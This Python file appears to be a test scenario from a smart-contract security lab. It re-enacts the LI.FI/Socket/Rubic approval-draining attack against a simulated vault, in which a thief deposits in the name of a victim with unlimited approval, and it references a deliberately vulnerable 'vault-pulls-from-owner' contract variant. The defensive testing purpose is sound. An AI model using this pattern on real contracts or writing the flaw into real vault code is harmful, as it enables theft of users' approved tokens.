"""LI.FI, Socket, Rubic: calldata aimed at the approvals of others."""

from __future__ import annotations

from clearspan.lab.scenarios.banking import DEPOSIT, held, vault_of
from clearspan.lab.scenarios.base import Scenario, Stage, Twin, Verdict
from clearspan.lab.scenarios.moves import LOOT, Heist, attempt


def attack(stage: Stage) -> Verdict:
    """A thief without tokens deposits in the name of a victim who has let the vault take any amount."""
    with stage.world() as world:
        heist = Heist(world)
        source, thief, victim = heist.source, heist.thief, world.base.users[0]
        token = source.contract("TestToken", heist.token)
        source.transact(token.functions.transfer(heist.owner.address, held(source, heist.token, thief.address)), thief)
        before = held(source, heist.token, victim.address)
        call = vault_of(heist).get_function_by_signature(DEPOSIT)(heist.token, LOOT, victim.address, 0)
        outcome = attempt(source, call, thief)
        lost = before - held(source, heist.token, victim.address)
        return Verdict(
            survived=lost == 0,
            detail=f"a deposit in the victim's name: {outcome}; the victim lost {lost}, refundable to the thief",
        )


SCENARIO = Scenario(
    identifier="incident-46",
    title="Somebody else's approval for ever is spent",
    group="C7",
    source="LI.FI, Mar 2022, $0.6M; Socket; Rubic",
    attack=attack,
    twin=Twin(
        mutation="the vault takes tokens from the owner that the caller names",
        contracts=(("CollateralVault", "vault-pulls-from-owner"),),
    ),
)
